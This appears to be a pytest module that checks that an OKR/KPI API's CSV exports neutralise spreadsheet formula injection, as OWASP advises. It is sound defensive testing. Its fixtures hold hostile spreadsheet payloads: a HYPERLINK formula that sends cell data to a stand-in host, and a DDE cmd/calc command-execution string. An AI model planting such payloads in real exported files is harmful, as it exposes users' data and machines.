"""CSV exports neutralise text a spreadsheet would run as a formula (OWASP CSV injection).

A text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
prefixed with ``'``; numbers (negative ones too), booleans, nulls, ids, dates and
timestamps are written as they are; NDJSON carries the raw text. The dataset gives
every user-text field a formula trigger, and every CSV export is checked cell by
cell against its NDJSON twin. The text columns are read from each export's item
model, so a text field added later is checked without touching this test.
"""

import csv
import io
import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any, get_args

import httpx
import pytest
from pydantic import BaseModel

from perfapi.key_results.schemas import CheckIn, KeyResult
from perfapi.kit.exports import Formatted, csv_cell
from perfapi.kpis.schemas import Kpi, KpiDirection, KpiTarget
from perfapi.objectives.schemas import Objective, ObjectiveKpi
from perfapi.points.schemas import PointOut
from perfapi.reports.schemas import AlignmentRow, GoalAchievementObjective, SeriesBucket
from tests.support import Tenant, created

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Text columns that never hold free text: keys match ^[A-Za-z0-9]..., `kind` is perfapi's.
NOT_FREE_TEXT = frozenset({"key", "kpi_key", "kind"})

OBJECTIVE = {
    "key": "growth-2026",  # the key pattern cannot start with a trigger
    "title": '=HYPERLINK("https://evil.test/?"&A1,"open")',
    "description": "\t=1+1",
    "owner": "@SUM(1,2)",
    "team": "+sales",
    "start_date": "2026-01-01",
    "due_date": "2026-03-31",
    "weight": 2.5,
}
UNALIGNED = {
    "title": "-2+3 unaligned",
    "description": "\r=cmd|' /C calc'!A0",
    "owner": "-owner",
    "team": "@team",
    "start_date": "2026-01-01",
    "due_date": "2026-06-30",
}
KPI = {
    "key": "rev",  # the KPI key pattern cannot start with a trigger
    "name": "=1+2 revenue",
    "unit": "+EUR",
    "description": "\rrevenue",
    "tags": ["-tag", "@tag", "plain"],
}
SPARE_KPI = {"key": "spare", "name": "@spare", "description": "-2"}
KEY_RESULT = {
    "title": "@kr",
    "direction": "decrease",
    "start_value": -1.5,
    "target_value": -10,
    "unit": "-pct",
    "weight": 1.5,
}
CHECK_IN = {
    "value": -3.5,
    "at": "2026-01-15T00:00:00Z",
    "note": "-note\r=SUM(1,1)",  # a CR inside must stay inside the quoted cell
    "confidence": 0.25,
}
TARGET = {"period_start": "2026-01-01", "period_end": "2026-01-31", "value": -100}
POINT = {
    "kpi": "rev",
    "ts": "2026-01-10T00:00:00Z",
    "value": -2.25,
    "dimensions": {"region": "=1+1", "channel": "\rweb"},
}


@dataclass(frozen=True)
class Dataset:
    objective: str
    kpi: str
    key_result: str


@pytest.fixture
async def dataset(client: httpx.AsyncClient, tenant: Tenant) -> Dataset:
    objective = await created(client, tenant, "/v1/objectives", OBJECTIVE)
    await created(client, tenant, "/v1/objectives", UNALIGNED)
    kpi = await created(client, tenant, "/v1/kpis", KPI)
    await created(client, tenant, "/v1/kpis", SPARE_KPI)
    await created(client, tenant, f"/v1/kpis/{kpi}/targets", TARGET)
    link = await client.put(
        f"/v1/objectives/{objective}/kpis/{kpi}", headers=tenant.headers, json={"weight": 3}
    )
    assert link.status_code in (200, 201), link.text
    key_result = await created(
        client, tenant, f"/v1/objectives/{objective}/key-results", KEY_RESULT
    )
    await created(client, tenant, f"/v1/key-results/{key_result}/check-ins", CHECK_IN)
    sent = await client.post("/v1/points", headers=tenant.headers, json={"points": [POINT]})
    assert sent.status_code == 200, sent.text
    return Dataset(objective, kpi, key_result)


def neutralised(raw: Any) -> str:
    """The cell OWASP's advice asks for: text, or ``;``-joined text parts, each escaped."""
    if isinstance(raw, list):
        return ";".join(neutralised(part) for part in raw)
    assert isinstance(raw, str)
    return "'" + raw if raw.startswith(TRIGGERS) else raw


def plain(value: Any) -> str:
    """A value perfapi formats itself, as its CSV cell: unchanged from JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def mentions_str(annotation: Any) -> bool:
    return annotation is str or any(mentions_str(arg) for arg in get_args(annotation))


def json_columns(line: dict[str, Any]) -> dict[str, Any]:
    """An NDJSON line in CSV columns: nested objects spread into dotted columns."""
    row: dict[str, Any] = {}
    for name, value in line.items():
        if isinstance(value, dict):
            row.update({f"{name}.{key}": inner for key, inner in value.items()})
        else:
            row[name] = value
    return row


def point_columns(line: dict[str, Any]) -> dict[str, Any]:
    # The points CSV is the format POST /v1/points reads: kpi, ts, value, dim.<name>.
    ts = datetime.fromisoformat(line["ts"]).isoformat()
    dims = {f"dim.{name}": value for name, value in line["dimensions"].items()}
    return {"kpi": KPI["key"], "ts": ts, "value": line["value"], **dims}


@dataclass(frozen=True)
class Export:
    path: Callable[[Dataset], str]
    model: type[BaseModel]
    params: dict[str, str] = field(default_factory=dict)
    columns: Callable[[dict[str, Any]], dict[str, Any]] = json_columns
    prefixes: dict[str, str] = field(default_factory=dict)  # dict field -> column prefix
    negative: tuple[str, ...] = ()  # numeric columns the dataset makes negative
    header_from_model: bool = True

    def text_columns(self, header: list[str]) -> set[str]:
        """Every column of ``header`` holding a model field typed as text."""
        found: set[str] = set()
        for name, info in self.model.model_fields.items():
            if not mentions_str(info.annotation) or name in NOT_FREE_TEXT:
                continue
            prefix = self.prefixes.get(name, f"{name}.")
            spread = [column for column in header if column.startswith(prefix)]
            found.update(spread if spread else [name])
        return found


EXPORTS = {
    "objectives": Export(lambda d: "/v1/objectives", Objective),
    "objective-kpis": Export(lambda d: f"/v1/objectives/{d.objective}/kpis", ObjectiveKpi),
    "kpis": Export(lambda d: "/v1/kpis", Kpi),
    "kpi-targets": Export(lambda d: f"/v1/kpis/{d.kpi}/targets", KpiTarget, negative=("value",)),
    "key-results": Export(
        lambda d: f"/v1/objectives/{d.objective}/key-results",
        KeyResult,
        params={"as_of": "2026-02-01T00:00:00Z"},
        negative=("start_value", "target_value", "current_value"),
    ),
    "check-ins": Export(
        lambda d: f"/v1/key-results/{d.key_result}/check-ins", CheckIn, negative=("value",)
    ),
    "points": Export(
        lambda d: f"/v1/kpis/{d.kpi}/points",
        PointOut,
        columns=point_columns,
        prefixes={"dimensions": "dim."},
        negative=("value",),
        header_from_model=False,
    ),
    "series": Export(
        lambda d: f"/v1/kpis/{d.kpi}/series",
        SeriesBucket,
        params={"from": "2026-01-10", "to": "2026-01-11", "interval": "day"},
        negative=("value",),
    ),
    "goal-achievement": Export(
        lambda d: "/v1/reports/goal-achievement",
        GoalAchievementObjective,
        params={"from": "2026-01-01", "to": "2026-12-31", "as_of": "2026-02-01T00:00:00Z"},
    ),
    "alignment": Export(lambda d: "/v1/reports/alignment", AlignmentRow),
}


async def export(
    client: httpx.AsyncClient, tenant: Tenant, url: str, params: dict[str, str], kind: str
) -> httpx.Response:
    response = await client.get(url, headers=tenant.headers, params={**params, "format": kind})
    assert response.status_code == 200, response.text
    return response


@pytest.mark.parametrize("name", list(EXPORTS))
async def test_every_text_cell_of_every_csv_export_is_neutralised(
    client: httpx.AsyncClient, tenant: Tenant, dataset: Dataset, name: str
) -> None:
    case = EXPORTS[name]
    url = case.path(dataset)
    as_csv = await export(client, tenant, url, case.params, "csv")
    as_ndjson = await export(client, tenant, url, case.params, "ndjson")
    assert as_csv.headers["content-type"].startswith("text/csv")

    reader = csv.DictReader(io.StringIO(as_csv.text))
    header = list(reader.fieldnames or [])
    if case.header_from_model:
        assert header == list(case.model.model_fields)
    rows = list(reader)
    lines = [json.loads(line) for line in as_ndjson.text.splitlines()]
    assert rows
    assert len(rows) == len(lines)  # no cell's CR or LF split a row

    text = case.text_columns(header)
    for row, line in zip(rows, lines, strict=True):
        expected = case.columns(line)
        assert set(expected) <= set(header)
        for column in header:
            raw = expected.get(column)
            if column in text and raw is not None:
                assert row[column] == neutralised(raw), (column, raw)
            else:
                assert row[column] == plain(raw), (column, raw)
            if not row[column].startswith(TRIGGERS):
                continue
            # A cell may only start with a trigger when it is a number, e.g. -3.5.
            assert column not in text
            assert float(row[column]) < 0, (column, row[column])
    # The dataset really puts a formula in every text column, and negative numbers
    # where it promises them; they reach the CSV escaped, respectively as they are.
    for column in text:
        raws = [case.columns(line).get(column) for line in lines]
        assert any(neutralised(raw).startswith("'") for raw in raws if raw is not None), column
        assert any(row[column].startswith("'") for row in rows), column
    for column in case.negative:
        assert any(row[column].startswith("-") and float(row[column]) < 0 for row in rows)


async def test_the_dataset_covers_every_exported_text_field(
    client: httpx.AsyncClient, tenant: Tenant, dataset: Dataset
) -> None:
    """The free-text columns this module checks, spelled out: a review aid and a guard."""
    covered: dict[str, set[str]] = {}
    for name, case in EXPORTS.items():
        url = case.path(dataset)
        response = await export(client, tenant, url, case.params, "csv")
        header = next(csv.reader(io.StringIO(response.text)))
        covered[name] = case.text_columns(header)
    assert covered == {
        "objectives": {"title", "description", "owner", "team"},
        "objective-kpis": {"kpi_name"},
        "kpis": {"name", "unit", "description", "tags"},
        "kpi-targets": set(),
        "key-results": {"title", "unit"},
        "check-ins": {"note"},
        "points": {"dim.channel", "dim.region"},
        "series": set(),
        "goal-achievement": {"title", "team"},
        "alignment": {"name"},
    }


async def test_ndjson_exports_carry_the_raw_text(
    client: httpx.AsyncClient, tenant: Tenant, dataset: Dataset
) -> None:
    objectives = await export(client, tenant, "/v1/objectives", {}, "ndjson")
    first = json.loads(objectives.text.splitlines()[0])
    assert {name: first[name] for name in ("title", "description", "owner", "team")} == {
        name: OBJECTIVE[name] for name in ("title", "description", "owner", "team")
    }
    kpis = await export(client, tenant, "/v1/kpis", {}, "ndjson")
    assert json.loads(kpis.text.splitlines()[0])["tags"] == KPI["tags"]
    check_ins = await export(
        client, tenant, f"/v1/key-results/{dataset.key_result}/check-ins", {}, "ndjson"
    )
    line = json.loads(check_ins.text)
    assert (line["note"], line["value"]) == (CHECK_IN["note"], -3.5)
    points = await export(client, tenant, f"/v1/kpis/{dataset.kpi}/points", {}, "ndjson")
    assert json.loads(points.text)["dimensions"] == POINT["dimensions"]


async def test_a_neutralised_cell_reads_back_as_the_escaped_text(
    client: httpx.AsyncClient, tenant: Tenant, dataset: Dataset
) -> None:
    response = await export(client, tenant, "/v1/objectives", {}, "csv")
    first_row = response.text.splitlines()[1]
    # Quoted by the csv module because the title holds commas and double quotes.
    assert '"\'=HYPERLINK(""https://evil.test/?""&A1,""open"")"' in first_row
    check_ins = await export(
        client, tenant, f"/v1/key-results/{dataset.key_result}/check-ins", {}, "csv"
    )
    assert '"\'-note\r=SUM(1,1)"' in check_ins.text  # the CR stays inside a quoted cell
    assert ",-3.5," in check_ins.text  # a negative number is written as it is


class Colour(str):
    pass


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+1", "'+1", id="plus"),
        pytest.param("-1", "'-1", id="minus-text"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\tx", "'\tx", id="tab"),
        pytest.param("\rx", "'\rx", id="carriage-return"),
        pytest.param("a=1", "a=1", id="trigger-inside"),
        pytest.param(" =1", " =1", id="leading-space"),
        pytest.param("'=1", "'=1", id="already-quoted"),
        pytest.param("", "", id="empty-text"),
        pytest.param(Colour("=red"), "'=red", id="str-subclass"),
        pytest.param(["-a", "b", "@c"], "'-a;b;'@c", id="list-parts"),
        pytest.param(-3.5, -3.5, id="negative-float"),
        pytest.param(-2, -2, id="negative-int"),
        pytest.param(Decimal("-1.25"), "-1.25", id="negative-decimal"),
        pytest.param(True, "true", id="bool"),
        pytest.param(None, None, id="null"),
        pytest.param(KpiDirection.LOWER_IS_BETTER, "lower_is_better", id="enum"),
        pytest.param(Formatted("-0001-01-01"), "-0001-01-01", id="formatted"),
        pytest.param(date(2026, 1, 2), "2026-01-02", id="date"),
        pytest.param(datetime(2026, 1, 2, tzinfo=UTC), "2026-01-02T00:00:00Z", id="timestamp"),
        pytest.param(
            uuid.UUID("00000000-0000-0000-0000-00000000002d"),
            "00000000-0000-0000-0000-00000000002d",
            id="uuid",
        ),
    ],
)
def test_csv_cell_decides_by_type(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
